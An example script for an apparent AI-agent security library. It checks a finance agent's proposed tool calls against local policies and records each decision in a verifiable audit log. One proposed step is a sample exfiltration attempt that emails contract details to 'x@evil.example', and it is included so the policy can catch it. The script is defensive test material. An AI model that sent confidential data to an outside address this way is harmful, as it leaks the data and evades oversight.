/**
 * An agent that decides for itself: the same six controls in its own process, with no gateway and no network.
 *
 *     node examples/local.ts [DIRECTORY]
 *
 * What it decided is in DIRECTORY/audit afterwards; `aisecops audit push` hands it to a gateway later.
 */
import { createLocalEnforcement } from 'aisecops-interceptor/local';

const local = await createLocalEnforcement({
  bundle: { directory: 'policies' },
  directory: process.argv[2] ?? 'local-enforcement',
  tenant_id: 'acme-corp',
  approvals: 'block',
});

const PROPOSED = [
  { tool_name: 'read_contract', arguments: { contract_id: 'C-7' } },
  { tool_name: 'make_payment', arguments: { payee: 'Stationery Ltd', amount: 2500, currency: 'USD' } },
  { tool_name: 'send_email', arguments: { to: 'x@evil.example', subject: 'C-7', body: 'It renews.' } },
];

try {
  for (const step of PROPOSED) {
    const answer = await local.evaluate({
      agent: { agent_id: 'agent-finance-01' },
      provenance: [{ source_type: 'user_prompt', trust_level: 'trusted' }],
      steps: [step],
    });
    console.log(`${step.tool_name}: ${answer.decision} (${answer.reason})`);
    if (answer.decision !== 'allow') continue;
    // Here the tool would run. Whatever came of it belongs into the evidence.
    await local.reportOutcome(answer.execution_plan_id, { status: 'succeeded' });
  }
} finally {
  await local.close();
}
console.log(`log of ${local.origin}: ${local.audit_file}`);
console.log(
  `verify it with: aisecops audit verify --audit-file ${local.audit_file} --key ${local.verifier_key}`,
);
